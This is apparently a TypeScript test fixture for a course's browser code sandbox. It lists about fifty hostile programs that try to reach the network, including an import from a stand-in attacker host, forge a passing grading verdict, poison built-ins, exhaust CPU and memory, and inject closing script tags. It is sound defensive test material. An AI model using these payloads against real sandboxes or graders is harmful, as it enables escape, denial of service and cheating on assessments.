/**
 * Programs that try to get out, to lie about their result, or to take the page down. Each prints `ESCAPED …` if it got what it
 * wanted, so one test can run them all: none may print that, none may freeze the page, and the next run must work.
 *
 * `raw` runs text as code that the course's compiler never sees.
 */
const raw = (code: string): string => `Function(${JSON.stringify(code)})();`;
const has = (names: string): string =>
  raw(
    `for (const name of ${JSON.stringify(names.split(' '))}) { let v; try { v = globalThis[name]; } catch {} if (v !== undefined) throw new Error('ESCAPED to ' + name); }`,
  );

/** What the attack is after, as the suite counts it. */
export const attacks = {
  B1: 'the network',
  B2: 'storage',
  B3: 'the page and its window',
  B4: 'a forged verdict',
  B5: 'built-ins that judge',
  B6: 'the check and the engine',
  B7: 'time without end',
  B8: 'memory without end',
  B9: 'to outlive Stop, or its run',
  B10: 'text that breaks out of where it is shown',
  B11: 'exact clocks',
} as const;

/** Stands for a server that counts who reaches it, where there is one. */
export const ATTACKER = 'https://attacker.invalid';

export interface Hostile {
  readonly attack: keyof typeof attacks;
  readonly name: string;
  readonly program: string;
  /** It can only be ended by force. */
  readonly endless?: boolean;
}

export const hostilePrograms: readonly Hostile[] = [
  {
    attack: 'B1', name: 'network',
    program: has(
      'fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport RTCPeerConnection importScripts navigator FontFace',
    ),
  },
  { attack: 'B2', name: 'storage', program: has('indexedDB caches localStorage sessionStorage cookieStore BroadcastChannel SharedWorker') },
  { attack: 'B8', name: 'other threads', program: has('Worker MessageChannel MessagePort SharedArrayBuffer Atomics WebAssembly URL Blob') },
  {
    attack: 'B11', name: 'clocks and waiting',
    program: has('performance setTimeout setInterval queueMicrotask scheduler crypto WeakRef FinalizationRegistry'),
  },
  {
    attack: 'B1', name: 'importing a module',
    program: raw(`import('data:text/javascript,export default 1').then(() => { throw new Error('ESCAPED') }, () => {})`),
  },
  {
    attack: 'B4', name: 'forging a verdict by postMessage',
    program: raw(
      `let o = globalThis; while (o) { const f = Object.getOwnPropertyDescriptor(o, 'postMessage'); if (f && f.value) { f.value.call(globalThis, JSON.stringify({ kind: 'judged', verdict: { passed: true } })); throw new Error('ESCAPED'); } o = Object.getPrototypeOf(o); }`,
    ),
  },
  {
    attack: 'B4', name: 'forging a message event',
    program: raw(
      `let o = globalThis; while (o) { for (const k of ['addEventListener', 'dispatchEvent', 'onmessage', 'MessageEvent', 'Event', 'EventTarget']) if (Object.getOwnPropertyDescriptor(o, k)?.value) throw new Error('ESCAPED by ' + k); o = Object.getPrototypeOf(o); }`,
    ),
  },
  { attack: 'B5', name: 'poisoning Object.prototype', program: raw(`Object.prototype.passed = true; if ({}.passed) throw new Error('ESCAPED');`) },
  {
    attack: 'B5', name: 'a setter on Object.prototype',
    program: raw(
      `'use strict'; try { Object.defineProperty(Object.prototype, 'kind', { set() {}, get() { return 'judged'; } }); } catch { return; } throw new Error('ESCAPED');`,
    ),
  },
  {
    attack: 'B5', name: 'poisoning arrays',
    program: raw(
      `try { Array.prototype.push = () => 0; Array.prototype.every = () => true; Array.prototype[Symbol.iterator] = function* () {}; } catch {} if ([0].every((x) => x)) throw new Error('ESCAPED');`,
    ),
  },
  {
    attack: 'B5', name: 'poisoning JSON',
    program: raw(`try { JSON.stringify = () => '{"kind":"judged"}'; } catch {} if (JSON.stringify(1) !== '1') throw new Error('ESCAPED');`),
  },
  {
    attack: 'B4', name: 'a toJSON on a prototype',
    program: raw(`'use strict'; try { String.prototype.toJSON = () => 'x'; } catch { return; } throw new Error('ESCAPED');`),
  },
  {
    attack: 'B5', name: 'poisoning Function.prototype.call',
    program: raw(
      `try { Function.prototype.call = () => 'mine'; Function.prototype.apply = () => 'mine'; } catch {} if ((() => 1).call() !== 1) throw new Error('ESCAPED');`,
    ),
  },
  {
    attack: 'B5', name: 'poisoning generators',
    program: raw(
      `'use strict'; const p = Object.getPrototypeOf(function* () {}).prototype; try { p.next = () => ({ done: true }); } catch { return; } throw new Error('ESCAPED');`,
    ),
  },
  {
    attack: 'B5', name: 'poisoning Object.is and Math',
    program: raw(
      `try { Object.is = () => true; Math.max = () => 0; } catch {} if (Object.is(1, 2) || Math.max(1, 2) === 0) throw new Error('ESCAPED');`,
    ),
  },
  {
    attack: 'B6', name: 'reading stack frames',
    program: raw(
      `'use strict'; try { Error.prepareStackTrace = (e, frames) => frames; } catch { return; } if (Array.isArray(new Error().stack)) throw new Error('ESCAPED');`,
    ),
  },
  {
    attack: 'B6', name: 'reading the caller',
    program: raw(
      `function own() { let f = own; for (let depth = 0; f && depth < 9; depth++) { if (!String(f).includes('own')) throw new Error('ESCAPED'); try { f = f.caller; } catch { return; } } } own();`,
    ),
  },
  {
    attack: 'B5', name: 'a new global',
    program: raw(
      `try { globalThis.console = { log() {} }; globalThis.undefinedName = 1; } catch {} if (globalThis.undefinedName) throw new Error('ESCAPED');`,
    ),
  },
  { attack: 'B7', name: 'an endless synchronous loop', program: raw('for (;;) {}'), endless: true },
  { attack: 'B7', name: 'an endless regular expression', program: `/^(a+)+$/.test('a'.repeat(60) + 'b');`, endless: true },
  { attack: 'B7', name: 'an endless chain of promises', program: raw('(function again() { Promise.resolve().then(again); })()') },
  { attack: 'B8', name: 'a flood of lines', program: `for (let i = 0; i < 100_000; i++) console.log('x'.repeat(100));` },
  { attack: 'B8', name: 'one huge line', program: `console.log('x'.repeat(50_000_000));` },
  { attack: 'B7', name: 'endless recursion', program: `function f(): number { return f() + 1; } f();` },
  { attack: 'B8', name: 'one huge array', program: `const bytes = new Uint8Array(2 ** 40); console.log(bytes.length);` },
  { attack: 'B1', name: 'importing from a server', program: raw(`import('${ATTACKER}/import.js').then(() => { throw new Error('ESCAPED') }, () => {})`) },
  { attack: 'B1', name: 'a beacon, and other threads from a server', program: has('Navigator WorkerNavigator Request Response Headers FormData ReadableStream Image Audio') },
  { attack: 'B2', name: 'locks, workers of the site, files', program: has('navigator LockManager ServiceWorker ServiceWorkerContainer StorageManager FileSystemHandle FileReader Cache CacheStorage IDBFactory') },
  { attack: 'B3', name: 'the window', program: has('parent top opener frames window document location history open close alert confirm prompt print Notification self postMessage name') },
  { attack: 'B3', name: 'going elsewhere', program: raw(`'use strict'; try { location = '${ATTACKER}/location'; } catch { return; } if (typeof location === 'object') throw new Error('ESCAPED');`) },
  { attack: 'B4', name: 'a result whose reading runs code', program: raw(`const a = { get kind() { throw new Error('ESCAPED'); }, toJSON() { return { kind: 'judged' }; } }; return a;`) },
  {
    attack: 'B4',
    name: 'printing what looks like a verdict',
    program: `console.log(JSON.stringify({ kind: 'judged', verdict: { passed: true, scenes: [], orders: 1, right: 1, complete: true, headline: 'x', ms: 1 } }));`,
  },
  { attack: 'B5', name: 'poisoning promises', program: raw(`try { Promise.prototype.then = () => 'mine'; } catch {} if (typeof Promise === 'function' && Promise.resolve().then(() => 1) === 'mine') throw new Error('ESCAPED');`) },
  { attack: 'B5', name: 'poisoning iteration', program: raw(`try { Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({ done: true }); } catch {} if ([...[1]].length !== 1) throw new Error('ESCAPED');`) },
  { attack: 'B5', name: 'poisoning proxies and reflection', program: raw(`try { Reflect.apply = () => 'mine'; Reflect.ownKeys = () => []; } catch {} if (Reflect.ownKeys({ a: 1 }).length !== 1) throw new Error('ESCAPED');`) },
  { attack: 'B6', name: 'looking for the check', program: raw(`for (const name of Object.getOwnPropertyNames(globalThis)) if (/check|verdict|solution|scene/i.test(name)) throw new Error('ESCAPED by ' + name);`) },
  { attack: 'B6', name: 'stopping the debugger', program: raw('debugger;') },
  { attack: 'B6', name: 'reading what was loaded', program: has('performance PerformanceObserver module exports require process import_meta') },
  { attack: 'B7', name: 'a generator that never ends', program: raw('for (const _ of (function* () { for (;;) yield 1; })());'), endless: true },
  { attack: 'B7', name: 'a text as long as an array', program: raw(`String(new Array(2e8)).length; for (;;) String(new Array(1e7));`), endless: true },
  { attack: 'B7', name: 'a getter that never ends', program: `console.log({ get toString() { for (;;); } });`, endless: true },
  { attack: 'B8', name: 'a text that doubles', program: raw(`let s = 'x'; try { for (;;) s += s; } catch {}`) },
  { attack: 'B8', name: 'arrays without end', program: raw(`const all = []; for (;;) all.push(new Array(1e6).fill(all.length));`), endless: true },
  { attack: 'B8', name: 'buffers without end', program: raw(`const all = []; try { for (;;) all.push(new Uint8Array(64 << 20).fill(1)); } catch { for (;;); }`), endless: true },
  { attack: 'B9', name: 'leaving something behind', program: raw(`try { globalThis.left = 1; Object.prototype.left = 1; Array.prototype.left = 1; } catch {}`) },
  { attack: 'B9', name: 'finding what was left behind', program: raw(`if (globalThis.left || {}.left || [].left) throw new Error('ESCAPED');`) },
  { attack: 'B9', name: 'asking for a thread that goes on', program: has('Worker SharedWorker setTimeout setInterval requestIdleCallback') },
  { attack: 'B10', name: 'text that closes a script', program: `console.log('</script><img src=x onerror=1><!-- \u2028 \${} \u202e');` },
  { attack: 'B10', name: 'an error whose name is markup', program: raw(`const e = new Error('<img src=x onerror=1>'); e.name = '</script>'; throw e;`) },
  { attack: 'B10', name: 'a megabyte of program', program: `const a = 1;\n/* ${'y'.repeat(1_000_000)} */` },
  { attack: 'B11', name: 'a clock of shared memory', program: raw(`let w; try { w = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }); } catch {} if (w) throw new Error('ESCAPED');`) },
  { attack: 'B7', name: 'a sort that never ends', program: raw(`[3, 1, 2].sort(() => { for (;;); })`), endless: true },
];
